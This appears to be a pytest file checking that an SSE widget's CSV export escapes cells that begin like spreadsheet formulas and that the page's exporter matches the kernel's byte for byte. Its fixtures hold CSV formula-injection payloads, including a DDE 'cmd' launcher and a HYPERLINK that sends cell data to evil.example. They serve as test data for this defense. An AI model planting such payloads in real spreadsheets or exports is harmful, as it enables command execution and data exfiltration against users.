"""A server's words in a spreadsheet: they are text, not formulas, and the page's file is the kernel's."""

from __future__ import annotations

import csv
from datetime import UTC, datetime, timedelta

import pytest

from sse_widget import SSEStream
from sse_widget.events import EventBatch
from sse_widget.recordings.export import save
from sse_widget.tables.window import RollingWindow

from ..helpers.page_code import PageModule

RUN = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
CALL = "cmd|'/C calc'!A0"
FORMULAS = [
    *(f"{sign}{CALL}" for sign in RUN),
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "-1",
    "+1",
    "=",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]  # fmt: skip
TEXTS = [
    "",
    "plain",
    "1",
    "'=1",
    " =1",
    '"=1"',
    "a,=1",
    "a\n=1",
    'he said "no"',
    "ü 日本 👍",
    "\0",
    "x" * 70_000,
]
AT = datetime(2026, 1, 2, 3, 4, 5, 678901, tzinfo=UTC)


@pytest.fixture
def held():
    window = RollingWindow()
    for n, text in enumerate(FORMULAS + TEXTS):
        at = AT + timedelta(microseconds=333_333 * n)
        window.append(EventBatch([text or "message"], [text], [text], [True], received_at=at))
    return window.read()


def cells(path):
    with path.open(newline="", encoding="utf-8") as file:
        return [tuple(row[2:]) for row in list(csv.reader(file))[1:]]


def test_no_cell_begins_as_a_formula_does(held, tmp_path):
    read = cells(save(held, tmp_path / "x.csv"))
    assert not any(cell.startswith(tuple(RUN)) for row in read for cell in row)
    assert read[: len(FORMULAS)] == [(f"'{text}",) * 3 for text in FORMULAS]
    assert read[len(FORMULAS) :] == [(text or "message", text, text) for text in TEXTS]


def test_it_can_be_had_as_it_came(held, tmp_path):
    read = cells(save(held, tmp_path / "x.csv", csv_formulas=True))
    assert read == [(text or "message", text, text) for text in FORMULAS + TEXTS]
    with pytest.raises(TypeError, match="csv_formulas must be True or False"):
        save(held, tmp_path / "x.csv", csv_formulas=1)  # type: ignore[arg-type]
    with pytest.raises(ValueError, match=r"an option of \.csv"):
        save(held, tmp_path / "x.parquet", csv_formulas=True)
    assert [path.name for path in tmp_path.iterdir()] == ["x.csv"]


def test_a_stream_saves_text_and_keeps_formulas_where_asked(tmp_path):
    stream = SSEStream.replay(b"data: =1+1\n\n", speed=float("inf"))
    try:
        assert cells(stream.save(tmp_path / "x.csv")) == [("message", "", "'=1+1")]
        raw = stream.save(tmp_path / "y.csv", csv_formulas=True)
        assert cells(raw) == [("message", "", "=1+1")]
    finally:
        stream.close()


def test_the_pages_file_is_the_kernels_byte_for_byte(held, tmp_path):
    rows = [
        {
            "seq": held.first + n,
            "at": row["received_at"].timestamp() * 1000,
            "type": row["type"],
            "id": row["last_event_id"],
            "data": row["data"],
        }
        for n, row in enumerate(held.table.to_pylist())
    ]
    page = PageModule("export/export.ts", tmp_path)
    made = page.run(
        'const w = new page.Writer("csv"); return w.head() + given.map((r) => w.write(r)).join("");',
        rows,
    )
    assert made.encode() == save(held, tmp_path / "x.csv").read_bytes()
